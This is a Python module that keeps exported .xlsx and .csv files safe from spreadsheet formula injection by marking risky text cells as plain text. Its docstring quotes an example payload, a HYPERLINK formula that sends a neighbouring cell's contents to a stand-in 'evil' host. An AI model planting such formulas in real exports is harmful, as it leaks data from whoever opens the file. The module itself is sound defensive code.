"""Text written into exported files stays text: no formula injection (CSV / spreadsheet injection).

A customer name such as ``=HYPERLINK("http://evil/?"&A2, "点击")`` or ``@SUM(...)`` typed into Kefu
would, written as it is, run as a formula in the spreadsheet of whoever opens the export.
Every export goes through this module, whatever its format:

- .xlsx (openpyxl): ``sheet.append(safe_row(sheet, values))``. Text is always a text cell
  (openpyxl itself stores text that starts with "=" as a formula and "#N/A" as an error), and
  text a spreadsheet could read as a formula also gets Excel's quote prefix, so the cell still
  reads as text after someone edits it. The value itself is unchanged.
- .csv (the csv module): ``writer.writerow(safe_csv_row(values))``. A CSV cell has no type, so
  risky text is prefixed with an apostrophe, as OWASP recommends ("CSV Injection").

Numbers, dates and empty cells pass unchanged: a negative amount stays a number.
"""

from collections.abc import Iterable

from openpyxl.cell.cell import ERROR_CODES, Cell

# What a spreadsheet may take as the start of a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(sheet, value):
    """`value` as it should be appended to `sheet` (a normal or write-only openpyxl worksheet)."""
    if not isinstance(value, str) or not (formula_like(value) or value in ERROR_CODES):
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # append() places it
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def safe_row(sheet, values: Iterable) -> list:
    return [safe_cell(sheet, value) for value in values]


def safe_csv_value(value):
    return "'" + value if formula_like(value) else value


def safe_csv_row(values: Iterable) -> list:
    return [safe_csv_value(value) for value in values]
